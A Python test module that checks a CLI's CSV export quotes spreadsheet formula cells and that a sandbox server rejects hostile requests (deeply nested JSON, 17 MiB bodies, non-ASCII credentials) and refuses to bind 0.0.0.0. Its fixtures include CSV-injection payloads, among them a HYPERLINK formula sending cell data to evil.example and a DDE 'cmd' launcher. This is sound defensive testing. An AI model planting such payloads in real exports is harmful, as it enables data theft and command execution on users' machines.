"""Export and sandbox input: formula cells and a lone surrogate through the CLI; hostile requests.

Three parts, one row. The CLI (``python -m kimono_interop.cli export --format csv``,
a real process) exports a roster whose names start with ``=``, ``+``, ``-``, ``@``
and a tab, next to names that are numbers (``-5``, ``+1.5e3``), and one with a lone
surrogate (``"\\ud800"`` in the JSON: the sandbox cannot encode it, so the fault
middleware writes that answer, as ASCII JSON): every formula cell must get a ``'``
in front, the numbers stay, the surrogate is written escaped, every record is there;
with ``--keep-formulas`` the cells are as sent. The sandbox gets JSON nested 100,000
deep, 17 MiB bodies (on every kind of operation that reads a body, the XML
blueprints and the token form included) and credentials that are not ASCII (a form,
Basic): each a 4xx, none a 5xx, and it serves on. ``sandbox --host 0.0.0.0`` without
``--allow-remote`` must exit 2 without binding any socket (a process whose
``socket.bind`` is recorded; the same with ``--host 127.0.0.1`` shows the record works).
"""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from pathlib import Path
from typing import Any

import httpx

from kimono_interop._operations import OPERATIONS
from scripts.reliability.checks import push_tasks
from scripts.reliability.faults import Rule, always, rewrite
from scripts.reliability.paths import TOKEN_PATH
from scripts.reliability.results import Result, fmt_counter
from scripts.reliability.servers import CLIENT_ID, Run
from scripts.service import path_of

#: Names a spreadsheet would run (each planted on a tenth of the persons), and names that
#: are numbers (which must stay as they are).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
)
NUMBERS = ("-5", "+1.5e3")
SURROGATE = "Ann\ud800e"
SURROGATE_WRITTEN = "Ann\\ud800e"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: Records the socket addresses a CLI process binds, then runs the CLI with its arguments.
BIND_RECORDER = r"""
import atexit, socket, sys
calls = []
_bind = socket.socket.bind
def bind(self, address):
    calls.append(address)
    return _bind(self, address)
socket.socket.bind = bind
atexit.register(lambda: print("bind calls:", calls, file=sys.stderr, flush=True))
from kimono_interop.cli import main
sys.argv = ["kimono-interop", *sys.argv[1:]]
main()
"""


def hostile_input(run: Run) -> Result:
    """The CLI's CSV export of a hostile roster, hostile requests, a remote sandbox refused."""
    s = run.sizes
    result = Result(
        "hostile-input",
        "Export and sandbox input",
        injected=(
            "a roster whose names start with `=`, `+`, `-`, `@` and a tab, names that are "
            "numbers, and one name with a lone surrogate (served by the fault middleware: the "
            "sandbox cannot encode it), exported by the CLI in a real process; to the "
            "sandbox: JSON nested 100,000 deep, 17 MiB bodies (JSON, XML blueprints, the "
            "token form), "
            "non-ASCII credentials in the token form and in Basic; `sandbox --host 0.0.0.0` "
            "without `--allow-remote`"
        ),
        amount=(
            f"{s.export_students:,} students exported twice (`--format csv`, and with "
            f"`--keep-formulas`); {s.hostile_requests} hostile requests of each of 4 kinds "
            "(at least one to each operation a kind goes to); "
            "2 sandbox commands"
        ),
        checked=(
            "exit 0; every formula cell gets a `'` in front (counted), numbers untouched, the "
            "surrogate written `\\ud800`, the files valid UTF-8, every record present; with "
            "`--keep-formulas` the cells as sent; each hostile request answered its 4xx "
            "(400, 413, 401) with a JSON error, 0 answers 5xx, the sandbox serving after "
            "each kind; `--host 0.0.0.0` exits 2 naming `--allow-remote`, with no bind() "
            "call and nothing listening"
        ),
    )
    summaries = [_export(run, result), _requests(run, result), _remote(run, result)]
    result.summary = "; ".join(summaries)
    return result


# -- the CLI's CSV export -------------------------------------------------------------------
def _export(run: Run, result: Result) -> str:
    s = run.sizes
    config = run.config(students=s.export_students, seed=46)
    with run.server(config) as server, tempfile.TemporaryDirectory() as tmp:
        state = server.state
        persons = list(state.roster.persons.values())
        planted: dict[str, tuple[str, str]] = {}  # person id -> (column, value)
        for n, person in enumerate(persons):
            pid = person["$sys"]["id"]
            if n % 10 == 3:
                value = FORMULAS[(n // 10) % len(FORMULAS)]
                person["name"]["first"] = value
                planted[pid] = ("name.first", value)
            elif n % 10 == 7:
                value = NUMBERS[(n // 10) % len(NUMBERS)]
                person["name"]["last"] = value
                planted[pid] = ("name.last", value)
        odd_one = persons[5]["$sys"]["id"]

        def surrogate(body: dict[str, Any]) -> dict[str, Any]:
            for item in body.get("data", []):
                if item["$sys"]["id"] == odd_one:
                    item["name"]["last"] = SURROGATE
            return body

        server.faults.set_rules(
            Rule("GET", re.escape(path_of("listPersons")), always(rewrite(surrogate)))
        )
        env = {
            **os.environ,
            "KIMONO_BASE_URL": server.url,
            "KIMONO_CLIENT_ID": CLIENT_ID,
            "KIMONO_CLIENT_SECRET": run.client_secret,
            "KIMONO_LOG": "debug",
        }
        outputs = {}
        for name, extra in (
            ("safe", ["--format", "csv"]),
            ("kept", ["--format", "csv", "--keep-formulas", "--only", "persons"]),
        ):
            out = Path(tmp) / name
            started = time.monotonic()
            done = subprocess.run(
                [sys.executable, "-m", "kimono_interop.cli", "export", "--out", str(out), *extra],
                capture_output=True,
                text=True,
                timeout=300,
                env=env,
            )
            run.watch.scan_text("subprocess output", done.stdout + done.stderr)
            result.equal(f"export ({name}): exit code", done.returncode, 0)
            if done.returncode:
                result.note(f"export ({name}): {done.stderr[-600:]}")
            outputs[name] = (out, time.monotonic() - started)
        server.faults.set_rules()
        counts = {
            c: len(getattr(state.roster, c)) for c in ("orgs", "courses", "sections", "terms")
        }
        ids = [p["$sys"]["id"] for p in persons]
        safe_dir, safe_seconds = outputs["safe"]
        kept_dir, kept_seconds = outputs["kept"]
        safe = _read_csv(result, safe_dir / "persons.csv", "export")
        kept = _read_csv(result, kept_dir / "persons.csv", "export --keep-formulas")
        live = {}
        quoted_total = 0
        for path in sorted(safe_dir.glob("*.csv")):
            rows = _read_csv(result, path, f"export {path.name}")
            cells = [cell for row in rows for cell in row.values()] + list(rows[0] if rows else [])
            live[path.name] = sum(1 for cell in cells if _is_formula(cell))
            quoted_total += sum(1 for cell in cells if cell.startswith("'"))
            if path.stem in counts:
                result.equal(f"export: records in {path.name}", len(rows), counts[path.stem])
    formulas = {pid: v for pid, v in planted.items() if v[1] in FORMULAS}
    for label, rows, want in (("export", safe, "'"), ("export --keep-formulas", kept, "")):
        by_id = {row.get("$sys.id"): row for row in rows}
        result.equal(f"{label}: records", len(rows), len(ids))
        result.equal(f"{label}: persons missing", len(set(ids) - set(by_id)), 0)
        wrong = {
            pid: by_id.get(pid, {}).get(column)
            for pid, (column, value) in planted.items()
            if by_id.get(pid, {}).get(column) != (want + value if value in FORMULAS else value)
        }
        result.equal(f"{label}: planted cells not as expected", wrong, {})
        result.equal(
            f"{label}: the lone surrogate, escaped",
            by_id.get(odd_one, {}).get("name.last"),
            SURROGATE_WRITTEN,
        )
    result.equal(
        "export: cells a spreadsheet would run, per file", {k: v for k, v in live.items() if v}, {}
    )
    numbers = len(planted) - len(formulas)
    result.note(
        f"CSV export of {len(ids):,} persons and {sum(counts.values()):,} other records in "
        f"{safe_seconds:.1f} s: {len(formulas)} formula cells planted "
        f"({', '.join(repr(f) for f in FORMULAS)}), all {len(formulas)} written with a `'` "
        f"({quoted_total} quoted cells in all files), {numbers} number cells untouched, the "
        f"lone surrogate written `{SURROGATE_WRITTEN}` (files valid UTF-8), 0 live formulas "
        f"in {len(live)} files; with `--keep-formulas` ({kept_seconds:.1f} s) the "
        f"{len(formulas)} cells as sent"
    )
    result.data.update(formulas=len(formulas), persons=len(safe), live_formulas=sum(live.values()))
    return f"CSV: {len(formulas)}/{len(formulas)} formula cells quoted, every record present"


def _read_csv(result: Result, path: Path, label: str) -> list[dict[str, str]]:
    """The rows of a CSV file the export wrote; a failure if it is missing or not UTF-8."""
    if not path.exists():
        result.failures.append(f"{label}: {path.name} was not written")
        return []
    raw = path.read_bytes()
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError as exc:
        result.failures.append(f"{label}: {path.name} is not valid UTF-8: {exc}")
        text = raw.decode("utf-8", errors="replace")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _is_formula(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell``: a formula start, and not a number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


# -- hostile requests to the sandbox -----------------------------------------------------------
def _requests(run: Run, result: Result) -> str:
    s = run.sizes
    config = run.config(students=20, seed=47)
    statuses: dict[str, Counter[int]] = {}
    served_after: dict[str, int] = {}
    with run.server(config) as server:
        state = server.state
        task = push_tasks(state, server.tenant_id, 1)[0]
        integration = next(iter(state.interop["integrations"].values()))["id"]
        version = next(iter(state.interop["integration_versions"].values()))["version"]
        json_targets = [
            _target("acknowledgeTasks"),
            _target("acknowledgeTask", id=task),
            _target("createCloud"),
            _target("updateTenantApplication"),
        ]
        xml_targets = [
            _target("createIntegrationVersion", id=integration),
            _target("updateIntegrationBlueprint", id=integration, version=version),
        ]
        persons = path_of("listPersons")
        big = 17 * 1024 * 1024
        with httpx.Client(base_url=server.url, timeout=60) as http:
            form = {"grant_type": "client_credentials", "client_id": CLIENT_ID}
            token = http.post(TOKEN_PATH, data={**form, "client_secret": run.client_secret})
            bearer = {"Authorization": f"Bearer {token.json()['access_token']}"}
            run.watch.add_token(token.json()["access_token"])

            def nested(n: int) -> httpx.Response:
                method, path = json_targets[n % len(json_targets)]
                body = b"[" * 100_000 + b"]" * 100_000
                headers = {**bearer, "Content-Type": "application/json"}
                return http.request(method, path, content=body, headers=headers)

            def oversized(n: int) -> httpx.Response:
                targets = [*json_targets, *xml_targets, ("POST", TOKEN_PATH)]
                method, path = targets[n % len(targets)]
                if path == TOKEN_PATH:  # a well-formed form, its secret 17 MiB long
                    secret = "s" * big
                    return http.post(TOKEN_PATH, data={**form, "client_secret": secret})
                if (method, path) in xml_targets:
                    named = version if "blueprint" in path else f"9.{n}"
                    body = b'<integration version="%s">' % named.encode()
                    body += b" " * big + b"</integration>"
                    headers = {**bearer, "Content-Type": "application/xml"}
                else:
                    body = b"[" + b" " * big + b"]"
                    headers = {**bearer, "Content-Type": "application/json"}
                return http.request(method, path, content=body, headers=headers)

            def form_credentials(n: int) -> httpx.Response:
                data = {**form, "client_id": f"zo\u00eb-{n}", "client_secret": "s\u00e9cret-\u2603"}
                return http.post(TOKEN_PATH, data=data)

            def basic_credentials(n: int) -> httpx.Response:
                if n % 2:
                    value = b"Basic " + base64.b64encode("\u00e9:\u00e9\u2603".encode())
                else:
                    value = "Basic Zm9v\u00e9".encode("latin-1")  # not even base64
                return http.get(persons, headers=[(b"Authorization", value)])

            # Each kind: its sender, the status it must get, how many places it goes to
            # (every one gets at least one request).
            kinds = {
                "JSON nested 100,000 deep": (nested, 400, len(json_targets)),
                "a 17 MiB body": (oversized, 413, len(json_targets) + len(xml_targets) + 1),
                "non-ASCII credentials in the token form": (form_credentials, 401, 1),
                "non-ASCII Basic credentials": (basic_credentials, 401, 2),
            }
            for kind, (send, expected, places) in kinds.items():
                seen: Counter[int] = Counter()
                for n in range(max(s.hostile_requests, places)):
                    answer = send(n)
                    seen[answer.status_code] += 1
                    if answer.status_code != expected:
                        result.failures.append(
                            f"{kind}: {answer.request.method} {answer.request.url.path} "
                            f"answered {answer.status_code}, expected {expected}: "
                            f"{answer.text[:150]}"
                        )
                    elif not _json_error(answer):
                        result.failures.append(f"{kind}: the {expected} has no JSON error body")
                statuses[kind] = seen
                served_after[kind] = http.get(persons, headers=bearer).status_code
        fives = sum(1 for _, _, status in state.log if status >= 500)
    result.equal("hostile requests: answers 5xx (the sandbox's log)", fives, 0)
    result.equal(
        "hostile requests: the sandbox served a list after each kind",
        served_after,
        dict.fromkeys(statuses, 200),
    )
    result.note(
        "hostile requests to the sandbox: "
        + "; ".join(f"{kind}: {fmt_counter(seen)}" for kind, seen in statuses.items())
        + f" (17 MiB bodies to {len(json_targets)} JSON and {len(xml_targets)} XML "
        "operations and the token endpoint, and the nested JSON to the JSON ones); "
        f"{fives} answers 5xx; a list answered 200 after each kind"
    )
    total = sum(sum(seen.values()) for seen in statuses.values())
    fours = sum(n for seen in statuses.values() for status, n in seen.items() if status // 100 == 4)
    result.data.update(hostile=total, hostile_4xx=fours, fives=fives)
    return f"{fours}/{total} hostile requests answered 4xx, {fives} x 5xx"


def _target(operation_id: str, **values: str) -> tuple[str, str]:
    """The method and path of an operation that reads a body."""
    return OPERATIONS[operation_id].method, path_of(operation_id, **values)


def _json_error(answer: httpx.Response) -> bool:
    try:
        body = answer.json()
    except ValueError:
        return False
    return isinstance(body, dict) and bool(body.get("code") or body.get("error"))


# -- sandbox --host 0.0.0.0 ------------------------------------------------------------------------
def _free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _listening(port: int) -> bool:
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1):
        return True
    return False


def _remote(run: Run, result: Result) -> str:
    port = _free_port()
    command = [sys.executable, "-c", BIND_RECORDER, "sandbox", "--students", "5"]
    started = time.monotonic()
    refused = subprocess.run(
        [*command, "--host", "0.0.0.0", "--port", str(port)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    seconds = time.monotonic() - started
    run.watch.scan_text("subprocess output", refused.stdout + refused.stderr)
    binds = _bind_calls(refused.stderr)
    result.equal("sandbox --host 0.0.0.0: exit code", refused.returncode, 2)
    result.true(
        "sandbox --host 0.0.0.0: the error names --allow-remote",
        "--allow-remote" in refused.stderr,
        refused.stderr[-300:],
    )
    result.equal("sandbox --host 0.0.0.0: bind() calls", binds, "[]")
    result.true("sandbox --host 0.0.0.0: nothing listens on the port", not _listening(port))
    result.true(
        "sandbox --host 0.0.0.0: no credentials printed",
        "KIMONO_CLIENT_SECRET" not in refused.stdout,
    )
    # The control: on 127.0.0.1 the same recorder sees the sandbox bind its port.
    port = _free_port()
    control = subprocess.Popen(
        [*command, "--host", "127.0.0.1", "--port", str(port)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    lines: list[str] = []
    ready = threading.Event()

    def read() -> None:
        assert control.stdout is not None
        for line in control.stdout:
            lines.append(line)
            if "KIMONO_BASE_URL" in line:
                ready.set()

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    served = False
    if ready.wait(timeout=60):
        limit = time.monotonic() + 15
        while not served and time.monotonic() < limit:
            served = _listening(port)
            time.sleep(0.05)
    control.send_signal(signal.SIGINT)
    try:
        _, errors = control.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        control.kill()
        _, errors = control.communicate()
    reader.join(timeout=5)
    # Its stdout holds the sandbox's own well-known credentials (printing them is the
    # command's job), which the run's watch looks for elsewhere: only stderr is scanned.
    run.watch.scan_text("subprocess output", errors)
    control_binds = _bind_calls(errors)
    result.true("control (--host 127.0.0.1): it served", served)
    result.true(
        "control (--host 127.0.0.1): the recorder saw its bind()",
        f"('127.0.0.1', {port})" in control_binds,
        control_binds,
    )
    result.note(
        f"`sandbox --host 0.0.0.0` (no --allow-remote): exit code {refused.returncode} after "
        f"{seconds:.1f} s, bind() calls {binds}, nothing listening on port {port}; the "
        f"control with --host 127.0.0.1 served, and its bind() calls were {control_binds}"
    )
    result.data.update(remote_exit=refused.returncode, remote_binds=binds)
    return f"--host 0.0.0.0 refused (exit {refused.returncode}, bind() calls: {binds})"


def _bind_calls(stderr: str) -> str:
    found = re.findall(r"^bind calls: (.*)$", stderr, flags=re.MULTILINE)
    return found[-1] if found else "(not reported)"
